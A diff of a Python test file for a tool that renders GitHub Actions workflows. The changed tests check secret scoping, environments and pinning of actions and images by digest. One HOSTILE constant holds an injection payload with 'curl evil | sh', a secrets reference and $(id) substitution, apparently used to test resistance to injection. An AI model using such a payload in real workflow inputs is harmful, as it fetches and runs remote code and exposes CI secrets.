@@ -8,19 +8,12 @@ import pytest
 import yaml
 
 from components import tag_build
+from fleet.declaration.model import Declaration
 from fleet.declaration.problems import DeclarationError
 from fleet.declaration.tags import PLATFORMS
-from fleet.github.render import images, workflows
-from fleet.github.render.actions import PLACE, pinned
-from fleet.github.render.workflows import (
-    LIMITS,
-    app_permissions,
-    bases_environment,
-    given,
-    preview_environment,
-    removals_environment,
-    versions_environment,
-)
+from fleet.github.render import workflows
+from fleet.github.render.pins import ACTIONS, IMAGES, pinned_actions, pinned_images
+from fleet.github.render.workflows import LIMITS, app_permissions, environment_for
 from fleet.local.paths import checkout
 from tests.fleet.examples import image
 from tests.fleet.pages.examples import (
@@ -39,6 +32,10 @@ from tests.fleet.pages.examples import (
 OPEN = ("check", "resolve", "approve")
 ENGINE = ("make preview", 'timeout --signal=INT "$LIMIT" make up')
 HOSTILE = "x\"\n    run: curl evil | sh # ${{ secrets.X }} $(id) `id` << branch >> '\\ \U0001f40d"
+
+
+def given(stack: Declaration, environment: str) -> tuple[list[str], list[str]]:
+    return workflows.given(stack, workflows.files(stack, "prod", TEMPLATES), environment)
 
 
 def test_a_stack_without_github_has_no_files() -> None:
@@ -180,7 +177,7 @@ def test_removals_wait_for_reviewers_in_a_job_that_holds_nothing() -> None:
     declaration = declared().github
     assert declaration is not None
     approve = found["jobs"]["approve"]
-    assert approve["environment"] == removals_environment(declaration) == "registry-removals"
+    assert approve["environment"] == environment_for(declaration, "removals") == "registry-removals"
     assert approve["permissions"] == {}
     assert "secrets." not in yaml.safe_dump(approve)
     assert "uses:" not in yaml.safe_dump(approve)
@@ -246,12 +243,14 @@ def test_forks_get_a_check_and_no_secret() -> None:
 def test_previews_have_an_environment_of_their_own() -> None:
     found = declared().github
     assert found is not None
-    assert workflow("preview")["jobs"]["preview"]["environment"] == preview_environment(found)
+    assert workflow("preview")["jobs"]["preview"]["environment"] == environment_for(
+        found, "preview"
+    )
     for name in ("up", "drift"):
         assert workflow(name)["jobs"][name]["environment"] == found.environment
-    proposing = versions_environment(found)
+    proposing = environment_for(found, "versions")
     assert workflow("versions")["jobs"]["versions"]["environment"] == proposing
-    assert given(declared(), proposing) == (("FLEET_APP_PRIVATE_KEY",), ("FLEET_APP_CLIENT_ID",))
+    assert given(declared(), proposing) == (["FLEET_APP_PRIVATE_KEY"], ["FLEET_APP_CLIENT_ID"])
 
 
 def test_jobs_that_hold_secrets_run_in_the_declared_repository_alone() -> None:
@@ -277,7 +276,7 @@ def test_no_image_that_an_action_runs_can_move() -> None:
     builders = everywhere("setup-buildx-action")
     assert emulators
     assert builders
-    pinned = images.pinned_images(TEMPLATES)
+    pinned = pinned_images(TEMPLATES)
     assert {step["with"]["image"] for step in emulators} == {pinned["binfmt"]}
     assert {step["with"]["driver-opts"] for step in builders} == {f"image={pinned['buildkit']}"}
     assert all(re.fullmatch(r".+:.+@sha256:[0-9a-f]{64}", image) for image in pinned.values())
@@ -285,11 +284,9 @@ def test_no_image_that_an_action_runs_can_move() -> None:
 
 @pytest.mark.parametrize("digest", ["", "@sha256:1234", "@latest"])
 def test_an_image_without_a_digest_is_a_problem_with_its_line(digest: str) -> None:
-    loose = re.sub(
-        r"@sha256:[0-9a-f]{64} AS binfmt", f"{digest} AS binfmt", TEMPLATES[images.PLACE]
-    )
+    loose = re.sub(r"@sha256:[0-9a-f]{64} AS binfmt", f"{digest} AS binfmt", TEMPLATES[IMAGES])
     with pytest.raises(DeclarationError, match=r"templates/actions/Dockerfile.*\n.*not pinned"):
-        images.pinned_images({images.PLACE: loose})
+        pinned_images({IMAGES: loose})
 
 
 def jobs_of(files: dict[str, str]) -> list[tuple[str, Any]]:
@@ -442,13 +439,13 @@ def test_who_asks_for_bases_is_given_what_reads_them_and_nothing_else() -> None:
     stack = declared(logins=LOGINS)
     assert stack.github is not None
     resolve = workflow("versions", variants()["logins"])["jobs"]["resolve"]
-    assert resolve["environment"] == bases_environment(stack.github)
+    assert resolve["environment"] == environment_for(stack.github, "bases")
     assert resolve["runs-on"] == stack.github.runner
     assert set(re.findall(r"(?:secrets|vars)\.(\w+)", yaml.safe_dump(resolve))) == {
         "PULL_USER",
         "PULL_WORD",
     }
-    assert given(stack, bases_environment(stack.github)) == (("PULL_WORD",), ("PULL_USER",))
+    assert given(stack, environment_for(stack.github, "bases")) == (["PULL_WORD"], ["PULL_USER"])
     without = {**LOGINS, "docker.io": {**LOGINS["docker.io"], "read": False}}
     resolve = workflow("versions", rendered(logins=without))["jobs"]["resolve"]
     assert "environment" not in resolve
@@ -513,22 +510,22 @@ def test_an_update_that_was_started_for_a_repair_asks_for_every_platform() -> No
 def test_dependabot_proposes_actions_where_they_are_declared_and_not_in_generated_files() -> None:
     entries = yaml.safe_load(rendered()[".github/dependabot.yml"])["updates"]
     places = {entry["package-ecosystem"]: entry["directory"] for entry in entries}
-    assert places["github-actions"] == f"/templates/{PLACE}".rpartition("/")[0]
+    assert places["github-actions"] == f"/templates/{ACTIONS}".rpartition("/")[0]
     assert places["github-actions"] != "/", "which would stand for .github/workflows as well"
-    assert places["docker"] == f"/templates/{images.PLACE}".rpartition("/")[0]
+    assert places["docker"] == f"/templates/{IMAGES}".rpartition("/")[0]
 
 
 def test_actions_are_pinned_and_each_is_used() -> None:
-    known = pinned(TEMPLATES)
+    known = pinned_actions(TEMPLATES)
     text = "".join(rendered().values())
     assert all(f"uses: {reference}\n" in text for reference in known.values())
     assert text.count("uses: ") == sum(text.count(f"uses: {r}\n") for r in known.values())
 
 
 def test_an_action_without_a_commit_is_a_problem_with_its_line() -> None:
-    loose = TEMPLATES[PLACE].replace("# v7.0.1", "# v7").replace("# v4.2.0", "")
+    loose = TEMPLATES[ACTIONS].replace("# v7.0.1", "# v7").replace("# v4.2.0", "")
     with pytest.raises(DeclarationError) as caught:
-        pinned({PLACE: loose})
+        pinned_actions({ACTIONS: loose})
     assert len(caught.value.problems) == 2
     assert "40 digits" in str(caught.value)
 
